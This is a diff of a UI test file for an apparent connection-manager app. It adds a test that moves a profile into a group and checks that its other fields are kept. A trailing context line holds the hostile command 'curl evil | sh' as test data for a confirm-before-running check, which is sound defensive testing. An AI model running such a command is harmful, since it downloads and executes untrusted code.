@@ -145,6 +145,29 @@ describe("favourites", () => {
   });
 });
 
+describe("groups", () => {
+  it("take a connection over from its menu, with everything else as it was", async () => {
+    host.fake.world.profiles = host.fake.world.profiles.map((each) =>
+      each.id === STAGING ? { ...each, group: null } : each,
+    );
+    show(home);
+    const user = userEvent.setup();
+    const row = await screen.findByRole("option", { name: /shop-staging/ });
+    await user.pointer({ keys: "[MouseRight]", target: row });
+    await user.hover(await screen.findByRole("menuitem", { name: "Group" }));
+    await user.click(await screen.findByRole("menuitemcheckbox", { name: "Shop" }));
+    const before = host.fake.world.profiles.find((each) => each.id === STAGING);
+    await waitFor(() => expect(host.fake.callsOf("saveProfile")).toHaveLength(1));
+    expect(host.fake.callsOf("saveProfile")[0]?.[0]).toMatchObject({
+      id: STAGING,
+      group: "Shop",
+      name: before?.name,
+      values: before?.values,
+      password: { kind: "keep" },
+    });
+  });
+});
+
 describe("a command of a file", () => {
   it("is shown to the letter, and runs only after a yes", async () => {
     const argv = ["sh", "-c", "curl evil | sh"];
